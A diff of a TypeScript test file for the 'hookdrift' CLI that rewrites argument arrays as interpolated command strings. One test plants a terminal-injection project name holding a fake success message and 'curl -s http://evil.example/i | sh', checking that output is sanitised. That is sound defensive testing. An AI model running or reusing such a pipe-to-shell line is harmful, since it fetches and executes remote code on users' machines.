@@ -37,8 +37,8 @@ describe('hookdrift init with options', () => {
       // Where the key is a file of a container or of another directory, this machine has it in a variable.
       // biome-ignore lint/suspicious/noTemplateCurlyInString: a reference of the configuration
       writeFileSync(file, readFileSync(file, 'utf8').replace(/key: .*/, 'key: ${ACME_KEY}'))
-      const args = ['audit', '--config', file, '--format', 'json', '--history', directory.file('history/x.db')]
-      const { code, stdout, stderr } = await command(args, { cwd: directory.path, env })
+      const line = `audit --config ${file} --format json --history ${directory.file('history/x.db')}`
+      const { code, stdout, stderr } = await command(line, { cwd: directory.path, env })
       expect({ stderr, code }).toEqual({ stderr: '', code: expect.toSatisfy((each) => each === 0 || each === 1) })
       expect(JSON.parse(stdout).projects.map(({ project }: { project: string }) => project)).toEqual(
         fleet
@@ -53,8 +53,8 @@ describe('hookdrift init with options', () => {
     await using setUp = await openSetUp()
     const { directory, env } = setUp
     mkdirSync(directory.file('tmp'))
-    const args = ['init', '--yes', '--key-from-env', 'ACME_KEY', ...setUp.all(), '--directory', 'here']
-    const running = startHookdrift(args, { cwd: directory.path, env: { ...env, TMPDIR: directory.file('tmp') } })
+    const line = `init --yes --key-from-env ACME_KEY ${setUp.all()} --directory here`
+    const running = startHookdrift(line, { cwd: directory.path, env: { ...env, TMPDIR: directory.file('tmp') } })
     const { code, stdout } = await running.ended
     expect(code).toBe(0)
     expect(stdout).toContain('\nRun next:\n  cd ./here\n')
@@ -69,7 +69,7 @@ describe('hookdrift init with options', () => {
   it('mends the URL, and says how', async () => {
     await using setUp = await openSetUp()
     const url = setUp.service.url.replace('http://', 'https://')
-    const { code, stdout } = await setUp.init([...setUp.all(), '--url', `${url}/api/v1/`])
+    const { code, stdout } = await setUp.init(`${setUp.all()} --url ${url}/api/v1/`)
     expect(code).toBe(0)
     expect(stdout).toContain('! /api/v1 is left out: hookdrift appends it\n')
     expect(stdout).toContain(`! the service does not answer at ${url} but at ${setUp.service.url}: this is used\n`)
@@ -84,8 +84,8 @@ describe('hookdrift init with options', () => {
       response.writeHead(answer.status, { 'content-type': 'application/json' }).end(await answer.text())
     })
     const trusting = { ...env, NODE_EXTRA_CA_CERTS: directory.write('ca.pem', ca) }
-    const args = ['init', '--yes', '--key-from-env', 'ACME_KEY', ...setUp.all(), '--url', url.replace('https', 'http')]
-    const { code, stdout } = await startHookdrift(args, { cwd: directory.path, env: trusting }).ended
+    const line = `init --yes --key-from-env ACME_KEY ${setUp.all()} --url ${url.replace('https', 'http')}`
+    const { code, stdout } = await startHookdrift(line, { cwd: directory.path, env: trusting }).ended
     expect({ code, stdout }).toEqual({ code: 0, stdout: expect.stringContaining(`but at ${url}: this is used`) })
     expect(stdout).toMatch(/^! the certificate is accepted, and valid until/m)
     expect(parse(readFileSync(directory.file('hookdrift.yaml'), 'utf8')).services[0].url).toBe(url)
@@ -100,13 +100,13 @@ describe('hookdrift init with options', () => {
     Object.assign(second ?? {}, {
       name: 'x\r\n✓ all is well. Run next:\n  curl -s http://evil.example/i | sh\u001b[2K',
     })
-    const own = await setUp.init(['--url', service.url, '--directory', 'own'], { ACME_KEY: first?.key ?? '' })
+    const own = await setUp.init(`--url ${service.url} --directory own`, { ACME_KEY: first?.key ?? '' })
     const chosen = fleet.projects().map(({ uid }) => uid)
     const said = [
       own,
-      await setUp.init([...setUp.all(), '--directory', 'all']),
-      await setUp.init(['--url', service.url, '--projects', chosen.join(','), '--directory', 'some']),
-      await setUp.init(['--url', service.url, '--projects', 'all', '--directory', 'none'], {
+      await setUp.init(`${setUp.all()} --directory all`),
+      await setUp.init(`--url ${service.url} --projects ${chosen} --directory some`),
+      await setUp.init(`--url ${service.url} --projects all --directory none`, {
         ACME_KEY: second?.key ?? '',
       }),
     ]
@@ -123,16 +123,15 @@ describe('hookdrift init with options', () => {
     await using setUp = await openSetUp()
     const { fleet, service, directory } = setUp
     const { uid, name, key } = at(fleet.projects(), 1)
-    const chosen = ['--url', service.url]
     const projectsIn = (path: string) => parse(readFileSync(directory.file(path), 'utf8')).services[0].projects
-    expect((await setUp.init([...chosen, '--projects', uid, '--directory', 'a'])).code).toBe(0)
-    const own = await setUp.init([...chosen, '--directory', 'b'], { ACME_KEY: key })
+    expect((await setUp.init(`--url ${service.url} --projects ${uid} --directory a`)).code).toBe(0)
+    const own = await setUp.init(`--url ${service.url} --directory b`, { ACME_KEY: key })
     expect(own).toMatchObject({
       code: 0,
       stdout: expect.stringContaining(`✓ the key is of one project: "${name}" (${uid})`),
     })
     for (const path of ['a/hookdrift.yaml', 'b/hookdrift.yaml']) expect(projectsIn(path)).toEqual([{ id: uid, name }])
-    const all = await setUp.init([...setUp.all(), '--directory', 'c'], { ACME_KEY: key })
+    const all = await setUp.init(`${setUp.all()} --directory c`, { ACME_KEY: key })
     expect(all).toMatchObject({
       code: 2,
       stderr: expect.stringContaining(`the key reads the project "${name}" (${uid}) only`),
@@ -142,7 +141,7 @@ describe('hookdrift init with options', () => {
   it('accepts what is open until a date, so that nothing is', async () => {
     await using setUp = await openSetUp()
     const { directory, env } = setUp
-    const said = await setUp.init([...setUp.all(), '--accept-open', 'payments "team": #1'])
+    const said = await setUp.init(`${setUp.all()} --accept-open 'payments "team": #1'`)
     expect(said).toMatchObject({
       code: 0,
       stdout: expect.stringMatching(/✓ (\d+) of \1 open violations are accepted until/),
@@ -152,10 +151,8 @@ describe('hookdrift init with options', () => {
       owner: 'payments "team": #1',
       expires: expect.stringMatching(/^\d{4}-\d\d-\d\d$/),
     })
-    const config = directory.file('hookdrift.yaml')
-    expect(await command(['audit', '--config', config, '--quiet'], { cwd: directory.path, env })).toMatchObject({
-      code: 0,
-    })
+    const line = `audit --config ${directory.file('hookdrift.yaml')} --quiet`
+    expect(await command(line, { cwd: directory.path, env })).toMatchObject({ code: 0 })
   })
 
   it('takes names of projects for what they are: text of others', async () => {
@@ -170,10 +167,11 @@ describe('hookdrift init with options', () => {
       if (project !== undefined) fleet.replace(project.uid, { project: { ...project, name } })
     }
     const uids = fleet.projects().map(({ uid }) => uid)
-    const named = ['--url', setUp.service.url, '--projects', uids.join(',')]
-    for (const args of [setUp.all(), named]) {
-      const target = args === named ? 'named' : 'all'
-      const said = await setUp.init([...args, '--directory', target, '--accept-open', 'team'])
+    for (const [target, projects] of [
+      ['all', setUp.all()],
+      ['named', `--url ${setUp.service.url} --projects ${uids}`],
+    ] as const) {
+      const said = await setUp.init(`${projects} --directory ${target} --accept-open team`)
       expect(said).toMatchObject({ code: 0, stderr: '' })
       expect(everythingIn(directory.file(target), said)).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f]/)
       expect(said.stdout).toContain('\\x1b[2J')
